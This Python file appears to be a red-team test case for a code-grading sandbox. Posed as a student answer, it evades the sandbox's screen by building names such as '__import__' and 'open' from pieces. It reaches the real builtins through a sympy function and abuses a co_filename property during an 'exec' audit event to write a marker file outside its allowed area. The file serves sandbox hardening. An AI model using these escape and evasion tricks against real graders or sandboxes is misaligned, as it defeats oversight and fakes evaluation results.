"""effect: write-outside
tries: an object whose co_filename property runs while the hook checks an 'exec' event (busy) writes a file into the drop folder.

Route 1 through getattr(code, 'co_filename') in the hook.
"""

from lagrade.answer import *

# a sympy function's __builtins__ is the real builtins dict (not audited; the dunder is built at
# run time so the screen never sees it as a string constant)
from sympy import expand
from sympy.core.add import attrgetter

B = attrgetter("_" + "_builtins__")(expand)
imp = B["_" + "_import_" + "_"]
os_, sys_ = imp("o" + "s"), imp("s" + "ys")  # already imported: no "import" audit event
inspect = imp("inspect")
members = lambda obj: dict(inspect.getmembers(obj))

def work():
    B["op" + "en"]("/tmp/lagrade-redteam/drop/pwned-r1_exec_cofilename_write_drop", "w").write("written by an answer file")

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1 through the "exec" event: the hook reads getattr(code, "co_filename", ""); a property
# on our object runs our code while the hook is busy and answers a readable .py file name
def co_filename(self):
    once()
    return inspect.getfile(inspect)


Fake = type("Fake", (object,), {"co_filename": property(co_filename)})
sys_.audit("exec", Fake())
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway
